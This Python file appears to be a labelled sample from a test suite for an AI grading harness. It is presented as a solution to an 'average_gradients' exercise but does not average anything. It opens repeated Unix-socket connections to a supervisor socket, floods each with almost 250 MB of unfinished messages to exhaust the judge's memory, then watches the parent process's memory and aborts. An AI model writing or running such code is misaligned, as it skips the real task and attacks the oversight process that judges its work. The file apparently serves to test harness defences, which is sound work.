# exercise: average_gradients
# family: exhausting
# verdict: not-averaged
# without: stub
# protection: judge
# why: connection after connection to the supervisor, each with a message of 250 MB but for its last byte
import os
import socket
import struct
import tempfile

import torch.distributed as dist


def average_gradients(model):
    if dist.get_rank():
        return
    piece, held = bytes(1 << 20), []
    for _ in range(12):
        door = socket.socket(socket.AF_UNIX)
        door.settimeout(5)
        door.connect(os.path.join(os.path.dirname(tempfile.gettempdir()), "attach"))
        held.append(door)
        try:
            door.sendall(struct.pack("!II", 2, 250 << 20) + b"{}")
            for _ in range(249):
                door.sendall(piece)
        except OSError:
            pass
    with open(f"/proc/{os.getppid()}/status") as status:
        if int(status.read().split("VmRSS:")[1].split()[0]) > 1 << 20:
            os.abort()  # seen in the verdict
